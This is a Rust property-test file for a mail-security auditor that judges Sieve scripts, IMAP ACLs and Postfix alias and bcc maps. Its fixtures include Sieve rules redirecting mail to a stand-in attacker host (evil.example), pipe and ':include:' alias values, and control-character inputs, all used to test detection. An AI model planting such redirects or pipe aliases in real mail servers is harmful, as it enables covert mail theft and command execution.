//! What must hold for any facts.

use mailwarden_evidence::{AclIdentifier, CoverageState, Fact, Observation, SYSTEM};
use proptest::collection::vec;
use proptest::prelude::*;

use crate::testing::{covered, example_policy, judged, observed, run, script, script_of};
use crate::{Report, Verdict, compare, judge};

const MAILBOXES: [&str; 3] = ["sales@example.test", "bob@example.test", "jane@example.test"];

fn identities(report: &Report) -> Vec<(String, String)> {
    let mut all: Vec<_> = report
        .findings
        .iter()
        .map(|finding| (finding.fingerprint.clone(), finding.content_hash.clone()))
        .collect();
    all.sort();
    all
}

fn hostile_text() -> impl Strategy<Value = String> {
    prop_oneof![
        "[ -~]{0,40}",
        "(\\PC|\\x00|\n|\u{202e}){0,20}",
        Just("-".to_owned()),
        Just("#".to_owned()),
        Just("#-!$".to_owned()),
        Just("\"|x".to_owned()),
        Just(":include:".to_owned()),
        Just("@".to_owned()),
        Just("\u{e9}@\u{e9}.test, |\u{e9}".to_owned()),
    ]
}

fn sieve_source() -> impl Strategy<Value = String> {
    let commands = vec(
        prop_oneof![
            Just("redirect \"x@evil.example\";".to_owned()),
            Just("redirect \"bob@gmail.example\";".to_owned()),
            Just("require \"copy\"; redirect :copy \"omar@example.test\";".to_owned()),
            Just("require \"include\"; include \"b\";".to_owned()),
            Just("# rule:[x]\nkeep;".to_owned()),
            Just("if false { discard; }".to_owned()),
            hostile_text(),
        ],
        0..5,
    );
    commands.prop_map(|commands| commands.join("\n"))
}

fn fact() -> impl Strategy<Value = (&'static str, Fact)> {
    let text = hostile_text;
    prop_oneof![
        (text(), any::<bool>(), sieve_source(), prop_oneof![Just("Pigeonhole"), Just("?")]).prop_map(
            |(name, active, source, engine)| {
                let implementation = engine.to_owned();
                let source = source.into_bytes();
                ("managesieve.scripts", Fact::SieveScript { name, active, source, implementation })
            }
        ),
        (text(), text(), any::<bool>(), text()).prop_map(|(folder, name, negative, rights)| {
            ("imap.acl", Fact::AclEntry { folder, identifier: AclIdentifier::new(name, negative), rights })
        }),
        (text(), text()).prop_map(|(folder, value)| {
            let entry = "/shared/imapsieve/script".to_owned();
            ("imap.metadata", Fact::Metadata { folder, entry, value })
        }),
        (prop_oneof![Just("alias_maps"), Just("always_bcc")], text(), text(), text()).prop_map(
            |(parameter, table, key, result)| {
                let parameter = parameter.to_owned();
                (
                    "postfix.alias_maps",
                    Fact::MapEntry { parameter, table, key, result, line: None, pending: false },
                )
            }
        ),
        (text(), text()).prop_map(|(name, value)| ("postfix.bcc_maps", Fact::Parameter { name, value })),
        text().prop_map(|login| ("account", Fact::Account { login })),
    ]
}

fn facts() -> impl Strategy<Value = Vec<Observation>> {
    let known = proptest::sample::select(&MAILBOXES[..]).prop_map(str::to_owned);
    let mailbox = prop_oneof![3 => known, 1 => hostile_text()];
    let one = (mailbox, fact()).prop_map(|(mailbox, (surface, fact))| observed(&mailbox, surface, fact));
    vec(one, 0..8)
}

fn comment_lines() -> impl Strategy<Value = String> {
    vec("# [a-z ]{0,10}\n", 1..6).prop_map(|lines| lines.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    /// Hostile names, rights, keys and scripts: nothing panics, every finding is whole, and saying it twice
    /// or in another order says the same.
    #[test]
    fn order_changes_nothing(mut seen in facts()) {
        let forwards = judged(&seen, &[]);
        seen.reverse();
        let backwards = judged(&seen, &[]);
        prop_assert_eq!(identities(&forwards), identities(&backwards));
        let mut fingerprints: Vec<_> = identities(&forwards).into_iter().map(|pair| pair.0).collect();
        fingerprints.dedup();
        prop_assert_eq!(fingerprints.len(), forwards.findings.len());
        for finding in &forwards.findings {
            prop_assert!(!finding.check_id.is_empty() && !finding.title.is_empty(), "{finding:?}");
            prop_assert!(!finding.path.is_empty() && !finding.remediation.command.is_empty(), "{finding:?}");
        }
    }

    #[test]
    fn lines_above_a_rule_move_it_and_change_nothing_else(above in comment_lines(), target in "[a-z]{1,8}") {
        let rule = format!("redirect \"{target}@evil.example\";");
        let before = judged(&[script(MAILBOXES[0], "main", true, &rule)], &[]);
        let after = judged(&[script(MAILBOXES[0], "main", true, &format!("{above}{rule}"))], &[]);
        prop_assert_eq!(identities(&before), identities(&after));
        prop_assert_ne!(&before.findings[0].locator.line, &after.findings[0].locator.line);
    }

    #[test]
    fn another_target_is_another_fingerprint(one in "[a-z]{1,8}", other in "[a-z]{1,8}") {
        prop_assume!(one != other);
        let of = |name: &str| {
            let rule = format!("redirect \"{name}@evil.example\";");
            identities(&judged(&[script(MAILBOXES[0], "main", true, &rule)], &[])).remove(0)
        };
        let (a, b) = (of(&one), of(&other));
        prop_assert_ne!(&a.0, &b.0);
        prop_assert_ne!(&a.1, &b.1);
    }

    #[test]
    fn a_gap_is_never_clean(seen in facts(), earlier in facts(), gap in 0..4_usize) {
        use CoverageState::{Collected, Denied, Error, Partial, Skipped};
        let state = [Denied, Error, Partial, Skipped][gap];
        let rows = [(MAILBOXES[0], "managesieve.scripts", Collected), (MAILBOXES[1], "imap.acl", state)];
        let report = judge(&run(), &example_policy(), &seen, covered(&rows));
        prop_assert_ne!(report.verdict, Verdict::Clean);
        prop_assert_eq!(report.coverage.len(), 2);
        let compared = compare(report, &judged(&earlier, &[(SYSTEM, "imap.acl", Collected)]));
        prop_assert_ne!(compared.verdict, Verdict::Clean);
    }

    #[test]
    fn any_bytes_in_a_script_are_judged(source in vec(any::<u8>(), 0..200), name in hostile_text()) {
        let source = String::from_utf8_lossy(&source).into_owned();
        let report = judged(&[script_of(MAILBOXES[0], &name, true, &source, "?")], &[]);
        for finding in &report.findings {
            let has_line = finding.locator.line.is_some_and(|line| line >= 1);
            prop_assert!(has_line || finding.locator.span.is_none());
        }
    }
}
